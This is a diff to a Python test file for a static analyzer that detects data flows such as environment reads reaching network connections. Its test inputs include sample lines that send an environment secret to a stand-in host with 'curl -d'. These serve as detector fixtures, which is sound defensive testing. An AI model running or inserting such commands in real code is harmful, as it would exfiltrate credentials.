@@ -376,3 +376,25 @@ def test_a_chmod_without_an_execute_bit_runs_nothing(mode: str, runs: bool) -> N
               f"os.chmod('d.json', {mode})\n")
     kinds = {str(e.capability) for e in extract(source).evidence}
     assert ("code.dynamic(download)" in kinds) is runs
+
+
+@pytest.mark.parametrize(("source", "expected"), [
+    # the environment handed to a command is not sent anywhere by itself
+    ("import os, subprocess\n"
+     "subprocess.run(['git', 'push'], env={**os.environ, 'GIT_TERMINAL_PROMPT': '0'})\n", set()),
+    ("import os, subprocess\n"
+     "subprocess.run(['curl', '-d', '@-', 'https://x.example.net'], input=os.environ['K'])\n",
+     {("env.read(K)", 2, "net.connect(x.example.net)", 2, ())}),
+    ("import os, subprocess\n"
+     "cmd = ['curl', '-d', os.environ['K'], 'https://x.example.net']\n"
+     "subprocess.run(cmd, env=dict(os.environ))\n",
+     {("env.read(K)", 2, "net.connect(x.example.net)", 3, (2,))}),
+])
+def test_what_a_command_is_given(source: str, expected: set[Flow]) -> None:
+    assert flows(source) == expected
+
+
+@pytest.mark.parametrize("source", examples()["stdin"])
+def test_catalog_stdin_is_data(source: str) -> None:
+    kinds = {(f.source.capability.kind, f.sink.capability.kind) for f in extract(source).flows}
+    assert ("env.read", "net.connect") in kinds
